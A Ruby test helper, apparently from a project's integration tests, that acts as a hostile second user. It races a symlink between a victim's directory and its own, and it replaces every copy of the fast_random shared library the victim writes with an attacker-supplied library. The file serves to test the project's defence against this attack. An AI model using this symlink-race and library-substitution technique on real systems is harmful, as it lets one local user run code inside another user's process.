# frozen_string_literal: true

# The other user of test/integration/library_copy_test.rb, run by MRI under
# a uid of its own (setpriv): where fast_random's private copy directory is
# reached through a symbolic link this user can replace, it flips the link
# between the victim's directory and one of its own, and puts a library of
# its own in place of every copy the victim writes in its directory, as the
# third review did. Runs until killed, writing to OWN_TARGET/attacks how
# many rounds it made and how many times it re-pointed the link.
#   ruby copy_attack.rb LINK VICTIM_TARGET OWN_TARGET OWN_COPIES LIBRARY FILE_NAME
link, victim_target, own_target, own_copies, library, file_name = ARGV
evil = File.binread(library)
taken = {}
flip = "#{link}.flip"
rounds = flips = 0
report = File.join(own_target, "attacks")
loop do
  rounds += 1
  if rounds % 50 == 1 # whole, by a rename: the test reads it at any moment
    File.write("#{report}.new", "#{rounds} #{flips}")
    File.rename("#{report}.new", report)
  end
  [victim_target, own_target].each do |target|
    File.unlink(flip) if File.symlink?(flip)
    File.symlink(target, flip)
    File.rename(flip, link)
    flips += 1
  rescue SystemCallError
    nil # the victim's side of the race, or a link this user may not touch
  end
  Dir.children(own_copies).each do |name|
    next if taken[name] || !name.start_with?("libfast_random-")

    taken[name] = true
    begin
      File.rename(File.join(own_copies, name), File.join(own_copies, ".taken-#{name}"))
      Dir.mkdir(File.join(own_copies, name), 0o755)
      File.binwrite(File.join(own_copies, name, file_name), evil)
    rescue SystemCallError
      nil
    end
  end
rescue SystemCallError
  nil
end
